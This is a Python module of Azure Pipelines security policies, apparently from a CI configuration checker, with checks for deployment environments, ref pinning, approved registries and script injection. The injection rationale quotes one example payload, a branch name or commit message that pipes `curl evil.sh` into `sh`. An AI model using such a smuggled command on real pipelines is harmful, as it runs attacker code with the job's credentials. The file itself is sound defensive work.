"""Azure Pipelines policies."""
from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from checker.documents import Document, YamlMap
from checker.policy import Context, Violation, policy

from ._helpers import expression_matches, is_approved, is_variable, mappings, readers_of, script_lines, spread_taint

_SHA = re.compile(r"^[0-9a-f]{40}$")
DEPLOY_TASKS = re.compile(
    r"^(?:AzureWebApp|AzureRmWebAppDeployment|AzureFunctionApp|AzureFunctionAppContainer|AzureWebAppContainer|"
    r"AzureResourceManagerTemplateDeployment|AzureResourceGroupDeployment|SqlAzureDacpacDeployment|"
    r"AzureSpringCloud|AzureContainerApps|AzureStaticWebApp|IISWebAppDeploymentOnMachineGroup|ServiceFabricDeploy|"
    r"AzureCloudPowerShellDeployment|AzureMysqlDeployment|MysqlDeploymentOnMachineGroup|WindowsMachineFileCopy)@",
    re.IGNORECASE,
)
# Tasks that deploy only for some commands: task name -> input names -> deploying values.
COMMAND_TASKS = {
    "kubernetesmanifest": (("action",), {"deploy", "patch", "scale", "delete", "promote", "reject"}, "deploy"),
    "helmdeploy": (("command",), {"install", "upgrade", "rollback", "delete"}, "ls"),
    "kubernetes": (("command",), {"apply", "create", "replace", "set", "delete", "patch", "rollout"}, "apply"),
    "terraformtaskv1": (("command",), {"apply", "destroy"}, "init"),
    "terraformtaskv2": (("command",), {"apply", "destroy"}, "init"),
    "terraformtaskv3": (("command",), {"apply", "destroy"}, "init"),
    "terraformtaskv4": (("command",), {"apply", "destroy"}, "init"),
    "terraformcli": (("command",), {"apply", "destroy"}, "init"),
}
DEPLOY_COMMANDS = re.compile(
    r"\b(?:kubectl\s+(?:apply|create|replace|patch|rollout\s+restart|set\s+image)|"
    r"helm(?:file)?\s+(?:upgrade|install|apply|sync)|"
    r"skaffold\s+(?:run|deploy)|argocd\s+app\s+sync|eb\s+deploy|fly(?:ctl)?\s+deploy|firebase\s+deploy|"
    r"netlify\s+deploy|wrangler\s+(?:deploy|publish)|"
    r"terraform\s+(?:apply|destroy)|tofu\s+apply|pulumi\s+up|cdk\s+deploy|"
    r"az\s+(?:webapp|functionapp)\s+deploy|az\s+deployment\s+\w+\s+create)",
    re.IGNORECASE,
)
SCRIPT_KEYS = ("script", "bash", "powershell", "pwsh")
# Tasks that run script text, and their inputs that hold it (names in lower case, the task without its version).
SCRIPT_INPUTS = {
    "bash": ("script", "arguments"), "powershell": ("script", "arguments"), "cmdline": ("script",),
    "azurecli": ("inlinescript", "scriptarguments", "arguments"), "azurepowershell": ("inline", "scriptarguments"),
    "shellscript": ("args",), "batchscript": ("arguments",), "pythonscript": ("script", "arguments"),
    "ssh": ("commands", "inline", "args"), "powershellontargetmachines": ("inlinescript", "scriptarguments"),
}


def jobs(pipeline: object) -> Iterator[tuple[YamlMap, str]]:
    """Every job and deployment job (in `stages[].jobs` or top-level `jobs`) with a resource path."""
    if not isinstance(pipeline, YamlMap):
        return
    for s, stage in enumerate(mappings(pipeline.get("stages"))):
        name = stage.get("stage", s)
        for j, job in enumerate(mappings(stage.get("jobs"))):
            yield job, f"stages[{name}].jobs[{job.get('deployment', job.get('job', j))}]"
    for j, job in enumerate(mappings(pipeline.get("jobs"))):
        yield job, f"jobs[{job.get('deployment', job.get('job', j))}]"


def job_steps(job: YamlMap) -> Iterator[YamlMap]:
    """The steps of a job, and of every lifecycle hook of a deployment job's strategy."""
    yield from mappings(job.get("steps"))
    todo: list[Any] = [job.get("strategy")]
    while todo:
        node = todo.pop()
        if isinstance(node, YamlMap):
            for key, value in node.items():
                if key == "steps":
                    yield from mappings(value)
                else:
                    todo.append(value)


def step_scripts(step: YamlMap) -> Iterator[tuple[str, str, int]]:
    """(key, script text, line of the key) of a script step (`script:`, `bash:`, `powershell:`, `pwsh:`) and
    of the script inputs of a task that runs one (`Bash@3`'s `script`, `AzureCLI@2`'s `inlineScript`...)."""
    for key in SCRIPT_KEYS:
        if isinstance(step.get(key), str):
            yield key, step[key], step.line_of(key)
    task, inputs = step.get("task"), step.get("inputs")
    if isinstance(task, str) and isinstance(inputs, YamlMap):
        wanted = SCRIPT_INPUTS.get(task.partition("@")[0].strip().lower(), ())
        for key, value in inputs.items():
            if isinstance(key, str) and key.lower() in wanted and isinstance(value, str):
                yield f"inputs.{key}", value, inputs.line_of(key)


def walk(node: object, path: str = "") -> Iterator[tuple[YamlMap, str]]:
    """Every mapping of a document with its path (`stages[0].jobs[1].steps[2]`), wherever templates,
    `extends:` parameters or `${{ if }}` blocks nest it; a task's `inputs:` are its own, not steps."""
    todo: list[tuple[object, str]] = [(node, path)]
    while todo:
        current, where = todo.pop()
        if isinstance(current, YamlMap):
            yield current, where
            todo += reversed([(value, f"{where}.{key}" if where else str(key)) for key, value in current.items()
                              if not (key == "inputs" and "task" in current)])
        elif isinstance(current, list):
            todo += reversed([(item, f"{where}[{i}]") for i, item in enumerate(current)])


def deploying_step(step: YamlMap) -> str:
    """Why a step deploys ('' when it does not)."""
    task = step.get("task")
    if isinstance(task, str):
        if DEPLOY_TASKS.match(task):
            return f"task {task}"
        spec = COMMAND_TASKS.get(task.partition("@")[0].lower())
        if spec is not None:
            keys, deploying, default = spec
            inputs = step.get("inputs")
            inputs = inputs if isinstance(inputs, YamlMap) else {}
            value = next((inputs[k] for k in keys if k in inputs), default)
            if str(value).strip().lower() in deploying:
                return f"task {task} ({value})"
    for key, script, _ in step_scripts(step):
        match = DEPLOY_COMMANDS.search(script)
        if match:
            return f"{key} `{' '.join(match.group(0).split())}`"
    return ""


@policy(
    id="ORG-AZP-001",
    title="Deployments run as deployment jobs bound to an environment",
    kinds=["azure-pipelines"],
    severity="high",
    rationale=(
        "Approvals, checks, exclusive locks and the deployment history live on Azure DevOps environments; "
        "only a `deployment` job that names an environment is subject to them."
    ),
    remediation="""
        Deploy from a deployment job that targets an environment with approvals and checks:

            jobs:
              - deployment: DeployWeb
                environment: production
                strategy:
                  runOnce:
                    deploy:
                      steps:
                        - task: AzureWebApp@1
                          inputs: {azureSubscription: prod, appName: web}
    """,
    tags=["change-control"],
)
def deployments_use_environments(doc: Document, ctx: Context) -> Iterator[Violation]:
    """Every `deployment:` job declares an `environment:`, and no plain `job:` (nor the pipeline's own
    top-level `steps:`, an implicit job) deploys: a deploy task such as `AzureWebApp@1`,
    `KubernetesManifest@1` with action deploy, `HelmDeploy@0` upgrade, `TerraformTaskV4@4` apply, or
    `kubectl apply`/`helm upgrade`/`terraform apply`/`az deployment group create` in a script step or
    in the inline script of a task (`AzureCLI@2`'s `inlineScript`, `Bash@3`'s `script`...).

    The finding points at the `deployment:` or `job:` key, or at the pipeline's `steps:`.
    """
    if isinstance(doc.data, YamlMap):
        why = next(filter(None, map(deploying_step, mappings(doc.data.get("steps")))), "")
        if why:
            yield Violation(f"the pipeline's steps deploy ({why}) outside a deployment job with an environment",
                            doc.data.line_of("steps"), "steps")
    for job, resource in jobs(doc.data):
        if "deployment" in job:
            env = job.get("environment")
            if isinstance(env, YamlMap):
                env = env.get("name")
            if not (isinstance(env, str) and env.strip()):
                yield Violation(f"deployment job {job.get('deployment')} declares no environment:",
                                job.line_of("deployment"), resource)
            continue
        for step in job_steps(job):
            why = deploying_step(step)
            if why:
                yield Violation(f"job {job.get('job', '?')} deploys ({why}) outside a deployment job with an "
                                "environment", job.line_of("job") if "job" in job else job.line, resource)
                break


def _pinned_ref(ref: str) -> bool:
    """A ref that cannot move under the pipeline: a tag or a commit SHA (a variable is not judged)."""
    return "$(" in ref or "${{" in ref or ref.startswith("refs/tags/") or bool(_SHA.match(ref))


def _repository_issue(repo: YamlMap) -> tuple[str, str] | None:
    if str(repo.get("type", "git")).lower() not in ("git", "github", "githubenterprise", "bitbucket"):
        return None
    name = repo.get("name", repo.get("repository"))
    ref = repo.get("ref")
    if ref is None:
        return f"repository {name} has no ref, so templates come from its default branch", "repository"
    ref = str(ref).strip()
    if _pinned_ref(ref):
        return None
    return f"repository {name} is pinned to {ref}, a branch; use refs/tags/<tag> or a commit SHA", "ref"


@policy(
    id="ORG-AZP-002",
    title="Repository resources are pinned to a tag or commit",
    kinds=["azure-pipelines"],
    severity="high",
    rationale=(
        "Templates and code from another repository run inside this pipeline with its service connections; "
        "a branch ref lets anyone who can push there change what this pipeline does."
    ),
    remediation="""
        Pin each repository resource to a release tag or a full commit SHA:

            resources:
              repositories:
                - repository: templates
                  type: git
                  name: platform/pipeline-templates
                  ref: refs/tags/v3.2.0
    """,
    tags=["supply-chain"],
)
def repositories_pinned(doc: Document, ctx: Context) -> Iterator[Violation]:
    """Every entry of `resources.repositories` (the source of `template: x@alias` and of extra checkouts)
    has a `ref:` that is `refs/tags/...` or a 40-character commit SHA, and so does every inline checkout
    of another repository (`- checkout: git://Project/Repo@refs/tags/v1`), which needs no resource. Refs
    written with variables are not judged.

    The finding points at the `ref:`, at the `repository:` key when there is no ref, or at the
    inline `checkout:`.
    """
    resources = doc.data.get("resources") if isinstance(doc.data, YamlMap) else None
    repositories = resources.get("repositories") if isinstance(resources, YamlMap) else None
    for i, repo in enumerate(mappings(repositories)):
        issue = _repository_issue(repo)
        if issue:
            message, key = issue
            yield Violation(message, repo.line_of(key), f"resources.repositories[{repo.get('repository', i)}]")
    for step, path in walk(doc.data):
        checkout = step.get("checkout")
        if isinstance(checkout, str) and checkout.strip().lower().startswith("git://"):
            source, _, ref = checkout.strip().partition("@")
            if _pinned_ref(ref):
                continue
            pinned = f"follows {ref}, a branch" if ref else "has no ref, so it follows the default branch"
            yield Violation(f"inline checkout of {source} {pinned}; use @refs/tags/<tag> or a commit SHA",
                            step.line_of("checkout"), f"{path}.checkout")


def _images(pipeline: object) -> Iterator[tuple[str, int, str]]:
    if not isinstance(pipeline, YamlMap):
        return
    resources = pipeline.get("resources")
    containers = resources.get("containers") if isinstance(resources, YamlMap) else None
    aliases = set()
    for i, declared in enumerate(mappings(containers)):
        if isinstance(declared.get("container"), str):
            aliases.add(declared["container"])
        if isinstance(declared.get("image"), str):
            resource = f"resources.containers[{declared.get('container', i)}]"
            yield declared["image"], declared.line_of("image"), resource
    scopes: list[tuple[YamlMap, str]] = [(pipeline, "")] + [(job, resource + ".") for job, resource in jobs(pipeline)]
    for scope, prefix in scopes:
        container = scope.get("container")
        if isinstance(container, str) and container not in aliases:
            yield container, scope.line_of("container"), f"{prefix}container"
        elif isinstance(container, YamlMap) and isinstance(container.get("image"), str):
            yield container["image"], container.line_of("image"), f"{prefix}container.image"
        services = scope.get("services")
        if isinstance(services, YamlMap):
            for name, value in services.items():
                if isinstance(value, str) and value not in aliases:
                    yield value, services.line_of(name), f"{prefix}services.{name}"


@policy(
    id="ORG-AZP-003",
    title="Container jobs use images from an approved registry",
    kinds=["azure-pipelines"],
    severity="medium",
    rationale=(
        "Pipeline containers run with service connections; only the organisation's registries are scanned "
        "and mirrored."
    ),
    remediation="""
        Use images mirrored into an approved registry (organisation.approved_registries):

            resources:
              containers:
                - container: build
                  image: registry.example.com/ci/dotnet-sdk:8.0
    """,
    tags=["supply-chain"],
    requires=["approved_registries"],
)
def container_images_approved(doc: Document, ctx: Context) -> Iterator[Violation]:
    """Images of `resources.containers`, of the pipeline's and every job's `container:` and of `services:`
    are pulled from a registry in `organisation.approved_registries`. Images named with variables
    (`$(image)`, `${{ parameters.image }}`) are not judged.
    """
    registries = list(ctx.organisation["approved_registries"])
    for image, line, resource in _images(doc.data):
        if not is_variable(image) and not is_approved(image, registries):
            yield Violation(f"image {image} is not from an approved registry ({', '.join(registries)})", line, resource)


# Predefined variables whose text whoever pushes a commit, a branch or a tag, or opens a pull request, writes
# (lower case, as Azure Pipelines compares names): name as written in the docs, and what it holds.
UNTRUSTED_VARIABLES = {
    "build.sourceversionmessage": ("Build.SourceVersionMessage", "the commit message"),
    "build.sourcebranch": ("Build.SourceBranch", "the branch or tag that triggered the run"),
    "build.sourcebranchname": ("Build.SourceBranchName", "the branch or tag name"),
    "system.pullrequest.sourcebranch": ("System.PullRequest.SourceBranch", "the pull request's source branch"),
    "build.requestedfor": ("Build.RequestedFor", "the display name of whoever pushed or queued the run"),
}
# Not known when templates are expanded (the docs' "available in templates: no"): `${{ }}` yields '' for them.
_RUNTIME_ONLY = frozenset({"build.sourceversionmessage", "system.pullrequest.sourcebranch"})
_MACRO = re.compile(r"\$\(\s*([A-Za-z_][\w.\-]*)\s*\)")
_RUNTIME = re.compile(r"\$\[(.*?)\]\s*$", re.DOTALL)
_READ = re.compile(r"variables\[\s*'([^']+)'\s*\]|variables\.([A-Za-z_][\w.]*)", re.IGNORECASE)
# Expression functions that yield true/false, not text: an expression made of one carries no text.
_BOOLEAN = re.compile(r"^\s*(?:eq|ne|and|or|not|xor|in|notIn|contains|containsValue|startsWith|endsWith|gt|ge|lt|le|"
                      r"succeeded|failed|always|canceled|succeededOrFailed)\s*\(", re.IGNORECASE)
_PERCENT = re.compile(r"%([A-Za-z_][\w]*)%")


def _expression_reads(expression: str) -> list[str]:
    """The variables whose text an expression (`${{ }}` or `$[ ]` body) can yield; none when it only
    yields true/false."""
    if _BOOLEAN.match(expression):
        return []
    return [(m.group(1) or m.group(2)).lower() for m in _READ.finditer(expression)]


def _reads(text: str) -> Iterator[tuple[str, str]]:
    """(variable in lower case, how it is written) of every variable whose text is pasted into `text`
    before it runs: macros `$(name)` and template expressions `${{ variables['name'] }}`."""
    for match in _MACRO.finditer(text):
        yield match.group(1).lower(), match.group(0)
    for match in (found for line in text.split("\n") for found in expression_matches(line)):
        yield from ((name, match.group(0).strip()) for name in _expression_reads(match.group(1))
                    if name not in _RUNTIME_ONLY)


def _variable_definitions(pipeline: object) -> Iterator[tuple[str, str]]:
    """(name, value) of every variable the document defines (pipeline, stage and job `variables:`, as a
    mapping or as a list of `name:`/`value:` entries)."""
    for node, _ in walk(pipeline):
        block = node.get("variables")
        if isinstance(block, YamlMap):
            yield from ((str(name), value) for name, value in block.items() if isinstance(value, str))
        for entry in mappings(block):
            if isinstance(entry.get("name"), str) and isinstance(entry.get("value"), str):
                yield entry["name"], entry["value"]


def tainted_variables(pipeline: object) -> dict[str, str]:
    """Every variable (lower case) that holds untrusted text, mapped to the predefined variable it comes
    from: the untrusted predefined ones, and those the document defines from them with a macro, a
    template expression or a runtime expression (`$[ variables['Build.SourceBranchName'] ]`), spread as
    GitLab's are (`_helpers.spread_taint`); each value is read once."""
    definitions: list[tuple[str, list[str]]] = []
    for name, value in _variable_definitions(pipeline):
        runtime = _RUNTIME.match(value.strip())
        reads = [read for read, _ in _reads(value)] + (_expression_reads(runtime.group(1)) if runtime else [])
        definitions.append((name.lower(), reads))
    readers = readers_of(enumerate(definitions))
    return spread_taint(UNTRUSTED_VARIABLES, definitions.__getitem__, lambda name: readers.get(name, ()))


def _shown(written: str, variable: str, origin: str) -> str:
    """How a finding names what it found: the text written, and what it holds."""
    name, what = UNTRUSTED_VARIABLES[origin]
    return f"`{written}` ({what})" if variable == origin else f"`{written}` (set from {name}, {what})"


@policy(
    id="ORG-AZP-004",
    title="Untrusted pipeline variables are not pasted into scripts",
    kinds=["azure-pipelines"],
    severity="high",
    rationale=(
        "Azure Pipelines replaces `$(Build.SourceVersionMessage)` and `${{ }}` expressions in a script's text "
        "before the shell runs it, so a commit message or branch name such as `x\"; curl evil.sh | sh; #` "
        "becomes code running with the job's service connections and access token."
    ),
    remediation="""
        Map the variable to an environment variable of the step and read that, quoted; the shell then
        treats its text as data:

            - bash: echo "Building $COMMIT_MESSAGE"
              env:
                COMMIT_MESSAGE: $(Build.SourceVersionMessage)
    """,
    tags=["ci-security", "injection"],
)
def no_script_injection(doc: Document, ctx: Context) -> Iterator[Violation]:
    """No script (`script:`, `bash:`, `powershell:`, `pwsh:`, and the inline script and argument inputs of
    `Bash@3`, `PowerShell@2`, `CmdLine@2`, `AzureCLI@2`, `AzurePowerShell@5`, `PythonScript@0`, `SSH@0`,
    `ShellScript@2`, `BatchScript@1`, `PowerShellOnTargetMachines@3`) pastes in a variable an outsider
    writes: `Build.SourceVersionMessage`, `Build.SourceBranch`, `Build.SourceBranchName`,
    `System.PullRequest.SourceBranch` or `Build.RequestedFor`, nor a variable the pipeline sets from one.

    Macros (`$(Build.SourceVersionMessage)`) and template expressions (`${{ variables['Build.SourceBranch'] }}`,
    `${{ replace(variables['Build.SourceBranch'], 'refs/heads/', '') }}`) are replaced in the script's text
    before the shell parses it. A variable defined from an untrusted one (`variables:` at any level, with
    a macro, a template expression or a runtime expression `$[ variables['Build.SourceBranchName'] ]`)
    counts, and so does `%BUILD_SOURCEVERSIONMESSAGE%` in a Windows `script:`, which cmd.exe substitutes
    before it parses the line.

    Not reported: the environment-variable form (`$BUILD_SOURCEVERSIONMESSAGE`, `$env:BUILD_SOURCEBRANCH`)
    and `env:` mappings, which hand the text to the shell as data; expressions that only yield true/false
    (`${{ eq(variables['Build.SourceBranch'], 'refs/heads/main') }}`); `${{ parameters.x }}`, whose value
    the pipeline's caller or whoever queues the run chooses, not the commit's author. Each finding points
    at the script line that holds the variable.
    """
    tainted = tainted_variables(doc.data)
    env_names = {name.upper().replace(".", "_"): name for name in tainted}
    source = doc.text.splitlines()
    known: dict[str, list[tuple[int, str]]] = {}  # a script used through aliases a thousand times is read once
    for step, path in walk(doc.data):
        for key, script, start in step_scripts(step):
            if script not in known:
                known[script] = list(_pasted(script, tainted, env_names))
            lines = script_lines(script, source, start, step.end_line) if known[script] else []
            for index, message in known[script]:
                yield Violation(message, lines[index], f"{path}.{key}")


def _pasted(script: str, tainted: dict[str, str], env_names: dict[str, str]) -> Iterator[tuple[int, str]]:
    """(line of the script, message) of each untrusted variable pasted into a script."""
    for index, piece in enumerate(script.split("\n")):
        found = [(variable, written) for variable, written in _reads(piece) if variable in tainted]
        for variable, written in dict.fromkeys(found):
            env = variable.upper().replace(".", "_")  # every variable is also in the environment
            yield index, (f"untrusted {_shown(written, variable, tainted[variable])} is pasted into the script before "
                          f"it runs, so its text becomes code; read it from the environment instead, quoted: "
                          f"\"${env}\" in bash, $env:{env} in PowerShell")
        for match in _PERCENT.finditer(piece):
            named = env_names.get(match.group(1).upper())
            if named is not None:
                yield index, (f"untrusted {_shown(match.group(0), named, tainted[named])} is substituted by cmd.exe "
                              "before the line is parsed, so its text becomes code; read it as "
                              f"$env:{match.group(1)} in a PowerShell step instead")
